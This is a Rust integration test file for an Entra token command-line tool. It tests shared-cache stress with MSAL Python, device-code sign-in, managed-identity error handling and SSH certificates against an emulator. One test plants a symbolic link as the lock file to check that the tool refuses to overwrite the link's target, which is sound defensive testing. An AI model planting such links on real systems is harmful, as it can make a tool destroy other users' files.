    let mut cmd = StdCommand::new(env!("CARGO_BIN_EXE_msal"));
    for var in [
        "MSAL_BROWSER",
        "MSAL_PASSWORD",
        "MSAL_CONFIG",
        "KUBERNETES_EXEC_INFO",
        "RUST_LOG",
        "BROWSER",
    ] {
        cmd.env_remove(var);
    }
    for (k, v) in f.envs() {
        cmd.env(k, v);
    }
    let c = f.info.confidential_client.as_ref().unwrap();
    cmd.env("MSAL_CLIENT_SECRET", c.client_secret.clone().unwrap())
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    cmd
}

/// `msal token` for the ready-made secret client and `scope`, on `cache`.
fn app_token_command(f: &Fixture, cache: &Path, scope: &str) -> StdCommand {
    let c = f.info.confidential_client.as_ref().unwrap();
    let mut cmd = msal_process(f);
    cmd.args([
        "token",
        "--client-id",
        &c.client_id,
        "--client-secret",
        "-s",
    ])
    .arg(scope)
    .args(["-o", "json", "--cache-file"])
    .arg(cache);
    cmd
}

/// An `interop/msal_extensions_load.py write` process: MSAL Python + msal-extensions with
/// `lock` ("filelock", a default install, or "portalocker") getting `count` app tokens.
fn msal_extensions_writer(
    python: &Path,
    info: &Path,
    cache: &Path,
    lock: &str,
    prefix: &str,
    count: usize,
) -> std::process::Child {
    StdCommand::new(python)
        .arg(repo_root().join("interop/msal_extensions_load.py"))
        .arg("write")
        .arg("--info")
        .arg(info)
        .arg("--cache")
        .arg(cache)
        .args(["--lock", lock, "--prefix", prefix, "--count"])
        .arg(count.to_string())
        .env_remove("REQUESTS_CA_BUNDLE")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap()
}

/// What one MSAL Python writer reported: its lock module, the scopes it got, its failures.
fn msal_extensions_results(
    child: std::process::Child,
) -> (String, Vec<String>, Vec<String>, usize) {
    let out = child.wait_with_output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "MSAL Python writer: {stdout}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let mut lines = stdout.lines();
    let lock: Value = serde_json::from_str(lines.next().unwrap()).unwrap();
    let (mut ok, mut failed) = (Vec::new(), Vec::new());
    for line in lines {
        let r: Value = serde_json::from_str(line).unwrap();
        let scope = r["scope"].as_str().unwrap().to_lowercase();
        if r["ok"] == true {
            ok.push(scope);
        } else {
            failed.push(format!("{scope}: {}", r["error"]));
        }
    }
    // msal-extensions' `cache_lock.py` logs this when it could not create the lock file within
    // 5 s and goes on with `flock` alone.
    let fallbacks = String::from_utf8_lossy(&out.stderr)
        .matches("failed to create lock file")
        .count();
    (
        lock["lock"].as_str().unwrap().to_string(),
        ok,
        failed,
        fallbacks,
    )
}

/// The shared-cache stress test (issue 15): per run, 8 `msal token` workers (12 distinct app
/// tokens each, one process per token; 2 of the workers have a process SIGKILLed mid-run and
/// stop there) and 2 MSAL Python processes with msal-extensions, one with its default lock
/// (`filelock.py`, as without portalocker) and one with `portalocker` (12 tokens each), all on
/// one cache file; 10 runs. Every token whose command returned must be in the file, and the
/// file must parse, every time.
#[test]
fn stress_msal_and_msal_extensions_share_one_cache_file() {
    const RUNS: usize = 10;
    const WORKERS: usize = 8;
    const TOKENS: usize = 12;
    const VICTIMS: [usize; 2] = [2, 5];
    let Some(python) = python() else { return };
    let f = fixture();
    let info = f.dir.path().join("info.json");
    std::fs::write(&info, serde_json::to_string(&f.info).unwrap()).unwrap();
    let started = std::time::Instant::now();
    let mut totals = (0, 0, 0, 0);
    for run in 0..RUNS {
        let cache = f
            .dir
            .path()
            .join(format!("stress/{run}/msal_token_cache.json"));
        std::fs::create_dir_all(cache.parent().unwrap()).unwrap();
        let pythons = [
            msal_extensions_writer(
                &python,
                &info,
                &cache,
                "filelock",
                &format!("r{run}-py0"),
                TOKENS,
            ),
            msal_extensions_writer(
                &python,
                &info,
                &cache,
                "portalocker",
                &format!("r{run}-py1"),
                TOKENS,
            ),
        ];
        let (returned, killed) = std::thread::scope(|s| {
            let workers: Vec<_> = (0..WORKERS)
                .map(|w| {
                    let (f, cache) = (&f, &cache);
                    s.spawn(move || {
                        let mut returned = Vec::new();
                        for m in 0..TOKENS {
                            let scope = format!("api://load-r{run}-w{w}-{m}/.default");
                            let mut child = app_token_command(f, cache, &scope).spawn().unwrap();
                            if VICTIMS.contains(&w) && m == 3 + (run + w) % 6 {
                                // Mid-run, at a varying point of the command's work.
                                let ms = ((run * 37 + w * 11) % 90) as u64;
                                std::thread::sleep(Duration::from_millis(ms));
                                let _ = child.kill();
                                let _ = child.wait();
                                return (returned, true);
                            }
                            let out = child.wait_with_output().unwrap();
                            let err = String::from_utf8_lossy(&out.stderr);
                            assert!(out.status.success(), "worker {w} {scope}: {err}");
                            assert!(!err.contains("warning"), "worker {w} {scope}: {err}");
                            returned.push(scope.to_lowercase());
                        }
                        (returned, false)
                    })
                })
                .collect();
            let mut returned = Vec::new();
            let mut killed = 0;
            for w in workers {
                let (scopes, was_killed) = w.join().unwrap();
                returned.extend(scopes);
                killed += usize::from(was_killed);
            }
            (returned, killed)
        });
        let mut python_ok = Vec::new();
        let mut python_failed = Vec::new();
        let mut python_fallbacks = 0;
        for (child, expected) in pythons
            .into_iter()
            .zip(["msal_extensions.filelock", "msal_extensions.cache_lock"])
        {
            let (lock, ok, failed, fallbacks) = msal_extensions_results(child);
            assert_eq!(lock, expected, "msal-extensions' lock in use");
            python_ok.extend(ok);
            python_failed.extend(failed);
            python_fallbacks += fallbacks;
        }
        let in_file = cached_targets(&cache);
        let missing: Vec<&String> = returned
            .iter()
            .chain(&python_ok)
            .filter(|s| !in_file.contains(*s))
            .collect();
        println!(
            "stress run {run}: msal returned {} tokens ({killed} processes killed), MSAL Python \
             returned {} ({} failed: {python_failed:?}; portalocker went on without the lock \
             file {python_fallbacks} times); {} access tokens in the file, {} returned tokens \
             missing",
            returned.len(),
            python_ok.len(),
            python_failed.len(),
            in_file.len(),
            missing.len()
        );
        assert!(
            missing.is_empty(),
            "run {run}: missing from the file: {missing:?}"
        );
        assert_eq!(killed, VICTIMS.len());
        totals.0 += returned.len();
        totals.1 += python_ok.len();
        totals.2 += python_failed.len();
        totals.3 += missing.len();
    }
    println!(
        "stress total over {RUNS} runs: msal {} + MSAL Python {} tokens returned, all in the \
         file ({} missing); MSAL Python failures {}; {:.1} s",
        totals.0,
        totals.1,
        totals.3,
        totals.2,
        started.elapsed().as_secs_f64()
    );
}

/// MSAL Python (msal-extensions' `FilePersistence.load`) reads the file in a loop while `msal`
/// processes write it: it never sees an empty or partial file.
#[test]
fn msal_python_reading_while_msal_writes_never_sees_a_partial_file() {
    let Some(python) = python() else { return };
    let f = fixture();
    let cache = f.dir.path().join("read/msal_token_cache.json");
    std::fs::create_dir_all(cache.parent().unwrap()).unwrap();
    let reader = StdCommand::new(&python)
        .arg(repo_root().join("interop/msal_extensions_load.py"))
        .args(["read", "--seconds", "4", "--cache"])
        .arg(&cache)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let written: usize = std::thread::scope(|s| {
        let workers: Vec<_> = (0..4)
            .map(|w| {
                let (f, cache) = (&f, &cache);
                s.spawn(move || {
                    let end = std::time::Instant::now() + Duration::from_secs(4);
                    let mut n = 0;
                    while std::time::Instant::now() < end {
                        let scope = format!("api://load-read-w{w}-{n}/.default");
                        let out = app_token_command(f, cache, &scope).output().unwrap();
                        assert!(out.status.success(), "{}", stderr(&out));
                        n += 1;
                    }
                    n
                })
            })
            .collect();
        workers.into_iter().map(|w| w.join().unwrap()).sum()
    });
    let out = reader.wait_with_output().unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let report: Value =
        serde_json::from_str(String::from_utf8_lossy(&out.stdout).lines().last().unwrap()).unwrap();
    println!(
        "MSAL Python read the file {} times while msal wrote {written} tokens: {report}",
        report["reads"]
    );
    assert!(report["reads"].as_u64().unwrap() > 0, "{report}");
    assert_eq!(report["bad"], 0, "{report}");
    assert_eq!(cached_targets(&cache).len(), written);
}

/// A device-code sign-in waiting for approval does not hold the cache: another `msal token`
/// on the same file returns its cached token while the first still waits, and the sign-in's
/// tokens are merged into the file when they arrive.
#[test]
fn a_waiting_device_code_sign_in_does_not_block_other_commands() {
    let f = fixture();
    let cache = f.cache_file();
    let first = app_token_command(&f, &cache, APP_SCOPE).output().unwrap();
    assert!(first.status.success(), "{}", stderr(&first));
    let mut login = msal_process(&f);
    login.args([
        "login",
        "--device-code",
        "--scope",
        USER_SCOPE,
        "-o",
        "json",
    ]);
    let login = login.spawn().unwrap();
    let control = f.emulator.control();
    let mut pending = None;
    for _ in 0..600 {
        if let Some(p) = control.pending_device_codes().into_iter().next() {
            pending = Some(p);
            break;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    let pending = pending.expect("the CLI never started a device-code flow");
    let started = std::time::Instant::now();
    let second = app_token_command(&f, &cache, APP_SCOPE).output().unwrap();
    let took = started.elapsed();
    assert!(second.status.success(), "{}", stderr(&second));
    assert_eq!(stdout_json(&second)["source"], "cache");
    assert_eq!(
        control.pending_device_codes().len(),
        1,
        "the sign-in is still waiting for approval"
    );
    println!("cached token while a device-code sign-in waits: {took:?}");
    control
        .approve_device_code(&pending.user_code, "alice@contoso.example")
        .unwrap();
    let out = login.wait_with_output().unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let targets = cached_targets(&cache);
    assert!(targets.contains(APP_SCOPE), "{targets:?}");
    assert!(
        targets.iter().any(|t| t.contains("access_as_user")),
        "{targets:?}"
    );
}

/// `--cache-file /dev/null`, a FIFO, and a symbolic link planted as the lock file: refused with
/// a clear message and a next step, nothing replaced, nothing hangs.
#[cfg(unix)]
#[test]
fn special_cache_paths_are_refused_with_a_next_step() {
    let f = fixture();
    let null = run(f.msal().args(["accounts", "--cache-file", "/dev/null"]));
    assert_eq!(code(&null), 1, "{}", stderr(&null));
    assert_eq!(
        stderr(&null),
        "msal: error: the token cache file /dev/null is a character device, not a regular file; \
         it is never read or replaced: give the cache a regular file's path\n  next: give \
         --cache-file (or MSAL_CACHE_FILE, or cache_file in the config file) the path of a \
         regular file\n"
    );

    let fifo = f.dir.path().join("fifo");
    assert!(
        StdCommand::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    let out = app_token_command(&f, &fifo, APP_SCOPE).output().unwrap();
    assert_eq!(code(&out), 1);
    assert!(
        stderr(&out).starts_with(&format!(
            "msal: error: the token cache file {} is a FIFO (named pipe), not a regular file",
            fifo.display()
        )),
        "{}",
        stderr(&out)
    );

    let dir = f.dir.path().join("planted");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("victim.txt"), "precious").unwrap();
    let cache = dir.join("cache.json");
    std::os::unix::fs::symlink("victim.txt", dir.join("cache.json.lockfile")).unwrap();
    let out = app_token_command(&f, &cache, APP_SCOPE).output().unwrap();
    // The token is printed; the cache could not be written, which the warning says.
    assert!(out.status.success(), "{}", stderr(&out));
    let lock = dir.join("cache.json.lockfile");
    assert_eq!(
        stderr(&out),
        format!(
            "msal: warning: the token cache file {} could not be used: the token cache lock file \
             {l} is a symbolic link; it is never followed (that would overwrite the link's \
             target): remove the link (rm {l}) and check who created it\n",
            cache.display(),
            l = lock.display()
        )
    );
    assert_eq!(
        std::fs::read_to_string(dir.join("victim.txt")).unwrap(),
        "precious"
    );
}

/// Every variable that selects a managed-identity source, removed so the test's own
/// environment cannot choose one.
const MANAGED_IDENTITY_VARIABLES: &[&str] = &[
    "IDENTITY_ENDPOINT",
    "IDENTITY_HEADER",
    "IDENTITY_SERVER_THUMBPRINT",
    "IMDS_ENDPOINT",
    "MSI_ENDPOINT",
    "MSI_SECRET",
    "AZUREPS_HOST_ENVIRONMENT",
    "AZURE_POD_IDENTITY_AUTHORITY_HOST",
];

/// `msal emulator serve --json --managed-identity SOURCE`, and the variables it says to export.
fn serve_managed_identity(
    f: &Fixture,
    source: &str,
) -> (std::process::Child, entra_emulator::ManagedIdentityInfo) {
    let state = f.dir.path().join(format!("mi-state-{source}"));
    let (child, info) = entra_test_support::emulator::spawn_serve(
        StdCommand::new(env!("CARGO_BIN_EXE_msal"))
            .args(["emulator", "serve", "--json", "--managed-identity", source])
            .arg("--state-dir")
            .arg(&state),
    );
    let mi = info
        .managed_identity
        .unwrap_or_else(|| panic!("no managed_identity in the --json line for {source}"));
    assert_eq!(mi.source, source);
    (child, mi)
}

/// `msal` with exactly `environment` as its managed-identity variables and a cache of its own.
fn msal_mi(f: &Fixture, environment: &[(String, String)], cache: &str) -> Command {
    let mut cmd = f.msal();
    for var in MANAGED_IDENTITY_VARIABLES {
        cmd.env_remove(var);
    }
    cmd.env_remove("MSAL_CLIENT_ID")
        .env("MSAL_CACHE_FILE", f.dir.path().join(cache))
        .envs(environment.iter().cloned());
    cmd
}

const ARM: &str = "https://management.azure.com/.default";

#[test]
fn emulator_serve_managed_identity_serves_msal_token_and_doctor_explains_it() {
    let f = fixture();
    let (mut app_service, mi) = serve_managed_identity(&f, "app-service");
    let names: Vec<&str> = mi.environment.iter().map(|(k, _)| k.as_str()).collect();
    assert_eq!(names, ["IDENTITY_ENDPOINT", "IDENTITY_HEADER"]);

    // The system-assigned identity, then a user-assigned one, through the printed variables.
    let out = run(msal_mi(&f, &mi.environment, "mi-app.json").args([
        "token",
        "--managed-identity",
        "-s",
        ARM,
        "-o",
        "token",
    ]));
    assert!(out.status.success(), "{}", stderr(&out));
    let token = String::from_utf8_lossy(&out.stdout).trim().to_string();
    let claims = run(f.msal().args(["decode", "-o", "json"]).write_stdin(token));
    assert!(
        String::from_utf8_lossy(&claims.stdout).contains(&mi.system_assigned.client_id),
        "{}",
        String::from_utf8_lossy(&claims.stdout)
    );
    let user_assigned = &mi.user_assigned[0].client_id;
    let out = run(msal_mi(&f, &mi.environment, "mi-app.json").args([
        "token",
        "--managed-identity",
        "--client-id",
        user_assigned,
        "-s",
        ARM,
    ]));
    assert!(out.status.success(), "{}", stderr(&out));
    let unknown = run(msal_mi(&f, &mi.environment, "mi-app.json").args([
        "token",
        "--managed-identity",
        "--client-id",
        "00000000-0000-0000-0000-0000000000ff",
        "-s",
        ARM,
    ]));
    assert_eq!(code(&unknown), 7, "{}", stderr(&unknown));

    // doctor names the source and its variables, and never prints the secret.
    let doctor = run(msal_mi(&f, &mi.environment, "mi-app.json").arg("doctor"));
    let text = String::from_utf8_lossy(&doctor.stdout);
    assert!(text.contains("Managed identity"), "{text}");
    assert!(
        text.contains("App Service (detected from IDENTITY_ENDPOINT, IDENTITY_HEADER)"),
        "{text}"
    );
    assert!(text.contains(&mi.environment[0].1), "{text}");
    assert!(
        !text.contains(&mi.environment[1].1),
        "the secret was printed:\n{text}"
    );
    assert!(text.contains("--managed-identity app-service"), "{text}");

    // Endpoint gone: a network error (6) whose next step is about the managed-identity
    // endpoint, not the authority or --ca-file.
    app_service.kill().unwrap();
    app_service.wait().unwrap();
    let gone = run(msal_mi(&f, &mi.environment, "mi-gone.json").args([
        "token",
        "--managed-identity",
        "-s",
        ARM,
    ]));
    let err = stderr(&gone);
    assert_eq!(code(&gone), 6, "{err}");
    assert!(
        err.contains("App Service managed-identity endpoint cannot be reached"),
        "{err}"
    );
    assert!(
        err.contains("entra-emulator serve --managed-identity app-service"),
        "{err}"
    );
    assert!(
        !err.contains("--ca-file") && !err.contains("authority URL"),
        "{err}"
    );
}

#[test]
fn managed_identity_configuration_errors_exit_3_and_a_pin_mismatch_exits_6() {
    let f = fixture();
    let (mut fabric, mi) = serve_managed_identity(&f, "service-fabric");
    let ok = run(msal_mi(&f, &mi.environment, "mi-sf.json").args([
        "token",
        "--managed-identity",
        "-s",
        ARM,
    ]));
    assert!(ok.status.success(), "{}", stderr(&ok));

    let with = |name: &str, value: &str| -> Vec<(String, String)> {
        mi.environment
            .iter()
            .map(|(k, v)| {
                let v = if k == name {
                    value.to_string()
                } else {
                    v.clone()
                };
                (k.clone(), v)
            })
            .collect()
    };
    let endpoint = &mi.environment[0].1;
    let plain = with(
        "IDENTITY_ENDPOINT",
        &endpoint.replace("https://", "http://"),
    );
    let malformed = with("IDENTITY_SERVER_THUMBPRINT", "not-a-thumbprint");
    let other_pin = with("IDENTITY_SERVER_THUMBPRINT", &"AB".repeat(20));
    for (env, expected, what) in [
        (&plain, 3, "Service Fabric over http://"),
        (&malformed, 3, "a malformed thumbprint"),
        (&other_pin, 6, "a certificate that is not the pinned one"),
    ] {
        let out = run(msal_mi(&f, env, "mi-sf-bad.json").args([
            "token",
            "--managed-identity",
            "-s",
            ARM,
        ]));
        let err = stderr(&out);
        assert_eq!(code(&out), expected, "{what}: {err}");
        assert!(err.contains("next:"), "{what}: {err}");
        assert!(!err.contains("--ca-file"), "{what}: {err}");
    }

    // A user-assigned identity on Cloud Shell, which has none: configuration (3).
    let shell = vec![
        (
            "AZUREPS_HOST_ENVIRONMENT".to_string(),
            "cloud-shell/1.0".to_string(),
        ),
        (
            "MSI_ENDPOINT".to_string(),
            "http://127.0.0.1:1/oauth2/token".to_string(),
        ),
    ];
    let out = run(msal_mi(&f, &shell, "mi-shell.json").args([
        "token",
        "--managed-identity",
        "--client-id",
        "00000000-0000-0000-0000-0000000000ff",
        "-s",
        ARM,
    ]));
    assert_eq!(code(&out), 3, "{}", stderr(&out));
    fabric.kill().unwrap();
    fabric.wait().unwrap();
}

/// `msal ssh-cert` signs the user in (username/password here), writes `<key>-cert.pub` beside
/// the key as `az ssh cert` does, which `ssh-keygen -L` reads; a second run is answered from the
/// cache; another key gets its own certificate through the refresh token without a sign-in.
#[test]
fn ssh_cert_writes_the_certificate_beside_the_key() {
    use entra_test_support::ssh;
    let Some(keygen) = ssh::ssh_keygen() else {
        return;
    };
    let f = fixture();
    let keys = f.dir.path().join("keys");
    std::fs::create_dir_all(&keys).unwrap();
    let key = ssh::generate_rsa_key(&keygen, &keys, "id_rsa");
    let public_key = keys.join("id_rsa.pub");
    let out = run(f
        .msal()
        .args(["ssh-cert", "--public-key"])
        .arg(&public_key)
        .args(["--username", "alice@contoso.example"])
        .env("MSAL_PASSWORD", f.password("alice")));
    assert!(out.status.success(), "{}", stderr(&out));
    let cert = keys.join("id_rsa-cert.pub");
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        cert.display().to_string()
    );
    assert!(
        stderr(&out).contains("alice@contoso.example"),
        "{}",
        stderr(&out)
    );
    let written = std::fs::read_to_string(&cert).unwrap();
    assert!(
        written.starts_with("ssh-rsa-cert-v01@openssh.com AAAA"),
        "{written}"
    );
    let listing = ssh::list_certificate(&keygen, &cert);
    assert!(listing.contains("alice@contoso.example"), "{listing}");
    assert!(listing.contains("Public key: RSA-CERT"), "{listing}");
    let sent = f
        .emulator
        .control()
        .requests()
        .into_iter()
        .filter(|r| r.path.ends_with("/oauth2/v2.0/token"))
        .collect::<Vec<_>>();
    let last = sent.last().unwrap();
    assert_eq!(last.form["token_type"], "ssh-cert");
    assert_eq!(
        last.form["scope"].split(' ').next(),
        Some("https://pas.windows.net/CheckMyAccess/Linux/.default")
    );

    // Again, without interaction: the cached certificate, rewritten.
    std::fs::remove_file(&cert).unwrap();
    let again = run(f
        .msal()
        .args(["ssh-cert", "--no-interactive", "--public-key"])
        .arg(&public_key));
    assert!(again.status.success(), "{}", stderr(&again));
    assert_eq!(std::fs::read_to_string(&cert).unwrap(), written);
    let token_posts = |f: &Fixture| {
        f.emulator
            .control()
            .requests()
            .iter()
            .filter(|r| r.path.ends_with("/oauth2/v2.0/token"))
            .count()
    };
    assert_eq!(token_posts(&f), sent.len(), "answered from the cache");

    // Another key: a new certificate through the refresh token, to --file.
    let other = ssh::generate_rsa_key(&keygen, &keys, "work");
    let other_cert = f.dir.path().join("work.cert");
    let third = run(f
        .msal()
        .args(["ssh-cert", "--no-interactive", "--public-key"])
        .arg(other.with_extension("pub"))
        .arg("--file")
        .arg(&other_cert));
    assert!(third.status.success(), "{}", stderr(&third));
    let third_cert = std::fs::read_to_string(&other_cert).unwrap();
    assert_ne!(third_cert, written);
    assert_eq!(token_posts(&f), sent.len() + 1);
    let _ = key;

    // A key Entra does not sign: exit 3 (configuration) with the next step.
    let ed = keys.join("ed.pub");
    std::fs::write(
        &ed,
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOb1Ew8Pyd9aSGiMTv5nXhv9x7vWzBhNDkWlM6N2c2yb me\n",
    )
    .unwrap();
    let refused = run(f.msal().args(["ssh-cert", "--public-key"]).arg(&ed));
    assert_eq!(code(&refused), 3, "{}", stderr(&refused));
    assert!(stderr(&refused).contains("RSA"), "{}", stderr(&refused));
    assert!(
        stderr(&refused).contains("ssh-keygen -t rsa"),
        "{}",
        stderr(&refused)
    );
}
